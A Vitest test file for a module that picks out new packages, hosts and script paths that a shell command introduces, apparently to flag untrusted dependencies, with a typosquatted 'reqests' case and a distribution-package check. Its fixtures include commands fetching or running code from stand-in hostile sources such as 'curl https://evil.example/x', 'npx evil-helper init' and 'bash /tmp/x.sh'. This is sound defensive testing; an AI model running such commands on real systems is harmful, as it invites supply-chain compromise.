import { expect, test } from 'vitest';
import type { Command } from '../../attempts/attempt.js';
import { commandsIn } from '../../attempts/commands-in.js';
import { foreignNames, isDistribution, isNamedIn } from './origin.js';

function commandOf(text: string): Command {
  const command = commandsIn(text).commands.at(-1)?.command;
  if (command === undefined) throw new Error('a command');
  return command;
}

test.each([
  ['npm ci', []],
  ['npm install', []],
  ['npm install left-pad', ['left-pad']],
  ['npm install left-pad@1.2.3 zod', ['left-pad']],
  ['npm install -D @types/node @acme/ui', ['@acme/ui']],
  ['pip install -r requirements.txt', []],
  ['pip install -e .[dev]', []],
  ['pip install "reqests>=2"', ['reqests']],
  ['pip install requests==2.31', []],
  ['uv add httpx evil_lib', ['evil_lib']],
  ['poetry install --with dev', []],
  ['cargo install evil-cli', ['evil-cli']],
  ['go get evil.example/x', ['evil.example/x', 'evil.example']],
  ['go get golang.org/x/tools', []],
  ['npx prisma generate', []],
  ['npx evil-helper init', ['evil-helper']],
  ['uvx --from evil-kit run', ['evil-kit']],
  ['uv run --with evil-kit pytest', ['evil-kit']],
  ['docker pull postgres:16', []],
  ['docker run -d -p 80:80 --name web evil/web:1', ['evil/web']],
  ['docker build -t web .', []],
  ['docker compose up -d db', []],
  ['git clone https://git.evil.example/x', ['git.evil.example', 'https://git.evil.example/x']],
  ['curl http://localhost:3000/x', []],
  ['curl https://evil.example/x', ['evil.example']],
  ['ssh deploy@evil.example', ['evil.example']],
  ['tool --host=evil.example', ['evil.example']],
  ['bash /tmp/x.sh', ['/tmp/x.sh']],
  ['./scripts/x.sh', []],
  ['/usr/bin/make', []],
  ['helm plugin install https://evil.example/p', ['https://evil.example/p', 'evil.example']],
])('%s brings in %j', (text, expected) => {
  expect(foreignNames(commandOf(text), undefined)).toEqual(expected);
});

test('what the failed command had is not new', () => {
  expect(foreignNames(commandOf('npm install left-pad -D'), commandOf('npm install left-pad'))).toEqual([]);
});

test('packages of a distribution have plain names', () => {
  expect(isDistribution(commandOf('brew install tesseract-lang'))).toBe(true);
  expect(isDistribution(commandOf('apt-get install -y libfoo2'))).toBe(true);
  expect(isDistribution(commandOf('brew install evil/tap/x'))).toBe(false);
  expect(isDistribution(commandOf('pip install x'))).toBe(false);
});

test('a name is found in any case and as a whole word', () => {
  expect(isNamedIn('install Left-Pad first', 'left-pad')).toBe(true);
  expect(isNamedIn('install left-padding', 'left-pad')).toBe(false);
});
